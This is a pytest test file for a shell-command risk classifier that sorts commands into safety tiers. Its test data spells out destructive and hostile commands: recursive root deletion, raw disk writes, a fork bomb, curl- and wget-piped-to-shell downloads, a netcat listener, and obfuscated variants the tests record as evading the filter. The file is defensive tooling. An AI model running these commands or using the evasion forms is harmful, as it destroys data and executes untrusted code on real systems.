# tests/test_risk_classifier.py

import logging

import pytest

from askshell.risk_classifier import (
    DEFAULT_RULES,
    SAMPLE_COMMANDS,
    MatchKind,
    RiskRule,
    SafetyLevel,
    build_rule_table,
    classify,
    rules_for_level,
)

LEVELS = [SafetyLevel.LOW, SafetyLevel.MEDIUM, SafetyLevel.HIGH]

# A spread of benign and risky commands used by the property-style tests.
CORPUS = list(SAMPLE_COMMANDS) + [
    "ls -laSh",
    "git status",
    "df -h",
    "rm file.txt",
    "rm -r build/",
    "rm -rf ~",
    "rm -rf /*",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "dd if=/dev/zero of=/dev/null count=1",
    "mkfs.ext4 /dev/sdb1",
    "shutdown -h now",
    "echo hi > /etc/hosts",
    "sudo systemctl restart nginx",
    "crontab -e",
    "ssh-keygen -t ed25519",
    "iptables -L",
    "mount /dev/sdb1 /mnt",
    "eval \"$(curl -s http://x.sh)\"",
    "wget -qO- http://x.sh | sh",
    "nc -lvp 4444",
    "useradd bob",
    "parted /dev/sda print",
    "chown -R me:me /var/www",
]


# --- Table structure ---

def test_rule_table_is_ordered_low_to_high():
    levels = [rule.min_level for rule in DEFAULT_RULES]
    assert levels == sorted(levels)

@pytest.mark.parametrize("lower, higher", [
    (SafetyLevel.LOW, SafetyLevel.MEDIUM),
    (SafetyLevel.MEDIUM, SafetyLevel.HIGH),
    (SafetyLevel.LOW, SafetyLevel.HIGH),
])
def test_rule_sets_are_nested(lower, higher):
    lower_rules = set(rules_for_level(lower))
    higher_rules = set(rules_for_level(higher))
    assert lower_rules <= higher_rules
    assert lower_rules < higher_rules

def test_every_tier_has_rules():
    for level in LEVELS:
        assert any(rule.min_level is level for rule in DEFAULT_RULES)

def test_every_rule_has_a_reason_and_compiles():
    for rule in DEFAULT_RULES:
        assert rule.reason
        assert rule.matches("") in (True, False)


# --- Properties ---

@pytest.mark.parametrize("command", CORPUS)
def test_classification_is_monotonic(command):
    verdicts = [classify(command, level) for level in LEVELS]
    for lower, higher in zip(verdicts, verdicts[1:]):
        if not lower.is_safe:
            assert not higher.is_safe
        # Reasons found at a lower level are still reported higher up, in the same order.
        assert [r for r in higher.reasons if r in lower.reasons] == list(lower.reasons)

@pytest.mark.parametrize("command", CORPUS)
def test_classification_is_deterministic(command):
    for level in LEVELS:
        assert classify(command, level) == classify(command, level)

def test_all_matching_rules_are_reported():
    verdict = classify("rm -rf /", SafetyLevel.MEDIUM)
    assert verdict.reasons == (
        "recursive deletion of filesystem root",
        "recursive deletion",
        "forced deletion without prompting",
    )

def test_unmatched_command_is_safe():
    verdict = classify("echo hello", SafetyLevel.HIGH)
    assert verdict.is_safe
    assert verdict.reasons == ()
    assert verdict.label == "Safe"


# --- Scenarios ---

def test_listing_sorted_by_size_is_safe_at_medium():
    assert classify("ls -laSh", SafetyLevel.MEDIUM).is_safe

def test_root_deletion_warns_at_low():
    verdict = classify("rm -rf /", SafetyLevel.LOW)
    assert not verdict.is_safe
    assert verdict.label == "Warn"
    assert "recursive deletion of filesystem root" in verdict.reasons

def test_sudo_only_flagged_at_high():
    assert classify("sudo apt update", SafetyLevel.LOW).is_safe
    assert classify("sudo apt update", SafetyLevel.MEDIUM).is_safe
    verdict = classify("sudo apt update", SafetyLevel.HIGH)
    assert "privilege escalation" in verdict.reasons

@pytest.mark.parametrize("command, level, reason", [
    ("rm -rf ~", SafetyLevel.LOW, "recursive deletion of home directory"),
    ("rm -rf /*", SafetyLevel.LOW, "recursive deletion of filesystem root"),
    ("cat image.iso > /dev/sda", SafetyLevel.LOW, "direct write to a raw block device"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", SafetyLevel.LOW, "raw device write with dd"),
    ("mkfs.ext4 /dev/sdb1", SafetyLevel.LOW, "filesystem format command"),
    (":(){:|:&};:", SafetyLevel.LOW, "fork bomb"),
    (":() { :|:& };:", SafetyLevel.LOW, "fork bomb"),
    ("shutdown -h now", SafetyLevel.LOW, "system shutdown, reboot or halt"),
    ("sudo reboot", SafetyLevel.LOW, "system shutdown, reboot or halt"),
    ("rm -r build/", SafetyLevel.MEDIUM, "recursive deletion"),
    ("chmod 777 /etc/passwd", SafetyLevel.MEDIUM, "world-writable permission change"),
    ("chmod 777 /etc/passwd", SafetyLevel.MEDIUM, "permission or ownership change on a system path"),
    ("echo hi > /etc/hosts", SafetyLevel.MEDIUM, "write into /etc"),
    ("cp my.conf /etc/nginx/nginx.conf", SafetyLevel.MEDIUM, "copy, move or link into /etc"),
    ("curl http://example.com/script.sh | bash", SafetyLevel.MEDIUM, "downloads and executes a remote script"),
    ("wget -qO- http://x.sh | sudo sh", SafetyLevel.MEDIUM, "downloads and executes a remote script"),
    ('eval "$(curl -s http://x.sh)"', SafetyLevel.MEDIUM, "dynamic evaluation of subshell output"),
    ('bash <(curl -s http://x.sh)', SafetyLevel.MEDIUM, "executes content fetched from the network"),
    ("nc -lvp 4444", SafetyLevel.MEDIUM, "opens a network listener"),
    ("useradd bob", SafetyLevel.HIGH, "account or credential management"),
    ("systemctl restart nginx", SafetyLevel.HIGH, "service or daemon control"),
    ("crontab -e", SafetyLevel.HIGH, "scheduled job management"),
    ("parted /dev/sda print", SafetyLevel.HIGH, "disk partitioning"),
    ("mount /dev/sdb1 /mnt", SafetyLevel.HIGH, "filesystem mount changes"),
    ("ufw allow 22", SafetyLevel.HIGH, "firewall configuration"),
    ("openssl req -new -x509 -key k.pem", SafetyLevel.HIGH, "key or certificate generation"),
])
def test_tier_examples(command, level, reason):
    assert reason in classify(command, level).reasons

@pytest.mark.parametrize("command", [
    "rm -rf /tmp/test",
    "dd if=/dev/zero of=/dev/null count=1",
    "find . -name '*.txt'",
])
def test_near_misses_are_safe_at_low(command):
    assert classify(command, SafetyLevel.LOW).is_safe

def test_matching_is_case_sensitive():
    assert classify("SUDO apt update", SafetyLevel.HIGH).is_safe


# --- Accepted heuristic limits ---

def test_accepted_false_positive_word_inside_string_literal():
    """The classifier has no shell parser: 'sudo' in an echoed string is still flagged."""
    verdict = classify('echo "remember to use sudo"', SafetyLevel.HIGH)
    assert "privilege escalation" in verdict.reasons

def test_accepted_false_positive_reading_passwd_file():
    verdict = classify("cat /etc/passwd", SafetyLevel.HIGH)
    assert "account or credential management" in verdict.reasons

@pytest.mark.parametrize("command", [
    'r""m -rf /',
    "x=rm; $x -rf /",
    "echo cm0gLXJmIC8= | base64 -d | sh",
])
def test_accepted_false_negative_obfuscated_commands(command):
    """Obfuscated or multi-step equivalents slip past pattern matching at Low."""
    assert classify(command, SafetyLevel.LOW).is_safe


# --- SafetyLevel / configured rules ---

@pytest.mark.parametrize("text, expected", [
    ("low", SafetyLevel.LOW),
    ("Medium", SafetyLevel.MEDIUM),
    (" HIGH ", SafetyLevel.HIGH),
])
def test_safety_level_parse(text, expected):
    assert SafetyLevel.parse(text) is expected
    assert expected.label == text.strip().lower()

def test_safety_level_parse_rejects_unknown():
    with pytest.raises(ValueError):
        SafetyLevel.parse("extreme")

def test_safety_levels_have_descriptions():
    for level in LEVELS:
        assert level.description.lower().startswith(level.label)

def test_build_rule_table_appends_valid_rules():
    table = build_rule_table([
        {"pattern": r"\bterraform\s+destroy\b", "reason": "infrastructure teardown", "min_level": "medium"},
        {"pattern": "kubectl delete", "match": "substring", "reason": "cluster deletion"},
    ])
    assert table[:len(DEFAULT_RULES)] == DEFAULT_RULES
    assert table[-2] == RiskRule(r"\bterraform\s+destroy\b", MatchKind.REGEX, SafetyLevel.MEDIUM, "infrastructure teardown")
    assert table[-1].match_kind is MatchKind.SUBSTRING
    assert classify("terraform destroy", SafetyLevel.LOW, table).is_safe
    assert classify("terraform destroy", SafetyLevel.MEDIUM, table).reasons == ("infrastructure teardown",)

def test_build_rule_table_skips_invalid_rules(caplog):
    with caplog.at_level(logging.ERROR):
        table = build_rule_table([
            {"pattern": "([unclosed", "reason": "broken regex"},
            {"pattern": "x", "reason": "bad level", "min_level": "extreme"},
            {"pattern": "x", "reason": "bad kind", "match": "glob"},
            {"reason": "no pattern"},
        ])
    assert table == DEFAULT_RULES
    assert "Ignoring invalid configured risk rule" in caplog.text
